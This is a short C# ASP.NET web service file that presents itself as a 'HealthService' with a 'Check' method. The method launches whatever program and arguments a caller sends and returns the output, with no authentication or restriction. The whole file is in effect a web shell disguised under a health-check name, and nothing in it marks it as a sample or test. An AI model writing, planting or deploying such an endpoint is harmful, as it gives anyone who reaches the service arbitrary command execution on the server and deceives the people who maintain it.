<%@ WebService Language="C#" Class="HealthService" %>
using System.Diagnostics;
using System.Web.Services;

[WebService(Namespace = "http://tempuri.org/")]
public class HealthService : WebService
{
    [WebMethod]
    public string Check(string target, string args)
    {
        var psi = new ProcessStartInfo(target, args) { RedirectStandardOutput = true, UseShellExecute = false };
        using (var p = Process.Start(psi))
        {
            return p.StandardOutput.ReadToEnd();
        }
    }
}
